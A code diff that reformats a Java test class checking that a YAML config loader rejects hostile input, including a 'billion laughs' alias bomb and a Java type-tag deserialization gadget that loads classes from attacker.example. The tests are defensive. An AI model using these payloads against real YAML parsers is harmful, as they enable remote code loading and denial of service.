@@ -61,7 +61,8 @@ class HostileConfigTest {
 
         @Test
         void aLongNumberIsShownShortened() {
-            assertThatThrownBy(() -> yaml(Configs.validWith("limits: {maxPathsPerRequest: " + "9".repeat(10_000) + "}")))
+            assertThatThrownBy(
+                            () -> yaml(Configs.validWith("limits: {maxPathsPerRequest: " + "9".repeat(10_000) + "}")))
                     .hasMessageContaining("(10000 characters)")
                     .hasMessageStartingWith("invalidator.yml: limits.maxPathsPerRequest: ");
         }
@@ -132,7 +133,11 @@ class HostileConfigTest {
             StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
             for (int level = 1; level <= 9; level++) {
                 String previous = "*a" + (level - 1);
-                yaml.append("a").append(level).append(": &a").append(level).append(" [")
+                yaml.append("a")
+                        .append(level)
+                        .append(": &a")
+                        .append(level)
+                        .append(" [")
                         .append(IntStream.range(0, 9).mapToObj(i -> previous).collect(Collectors.joining(", ")))
                         .append("]\n");
             }
@@ -142,9 +147,12 @@ class HostileConfigTest {
         @Test
         void aYamlAliasBombIsRejectedAtTheFirstAliasWithoutExpandingIt() {
             String bomb = billionLaughs();
-            assertTimeoutPreemptively(Duration.ofSeconds(10), () -> assertThatThrownBy(() -> yaml(bomb))
-                    .hasMessage("invalidator.yml: a1[0]: uses the YAML alias *a0 (line 2, column 10) but aliases are"
-                            + " not supported — write the value out in full"));
+            assertTimeoutPreemptively(
+                    Duration.ofSeconds(10),
+                    () -> assertThatThrownBy(() -> yaml(bomb))
+                            .hasMessage(
+                                    "invalidator.yml: a1[0]: uses the YAML alias *a0 (line 2, column 10) but aliases are"
+                                            + " not supported — write the value out in full"));
         }
 
         @Test
@@ -165,8 +173,11 @@ class HostileConfigTest {
 
         @Test
         void javaTypeTagsDoNotConstructObjects() {
-            assertThatThrownBy(() -> yaml(web("id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
-                    + " [[!!java.net.URL [\"http://attacker.example/\"]]]], channels: [C0OPS], users: [\"*\"]")))
+            assertThatThrownBy(
+                            () -> yaml(
+                                    web(
+                                            "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
+                                                    + " [[!!java.net.URL [\"http://attacker.example/\"]]]], channels: [C0OPS], users: [\"*\"]")))
                     .hasMessage("invalidator.yml: distributions.web.id: expected text such as E1WEBEXAMPLE, found a"
                             + " list");
         }
@@ -180,10 +191,13 @@ class HostileConfigTest {
 
         @Test
         void tenThousandIdsLoadAsAnOrdinaryList() throws ConfigException {
-            String users = IntStream.range(0, 10_000).mapToObj(i -> "U" + (100_000 + i))
+            String users = IntStream.range(0, 10_000)
+                    .mapToObj(i -> "U" + (100_000 + i))
                     .collect(Collectors.joining(", "));
             assertThat(yaml(web("id: E1WEBEXAMPLE, channels: [C0OPS], users: [" + users + "]"))
-                    .byAlias("web").map(d -> d.users().ids().size())).contains(10_000);
+                            .byAlias("web")
+                            .map(d -> d.users().ids().size()))
+                    .contains(10_000);
         }
     }
 }
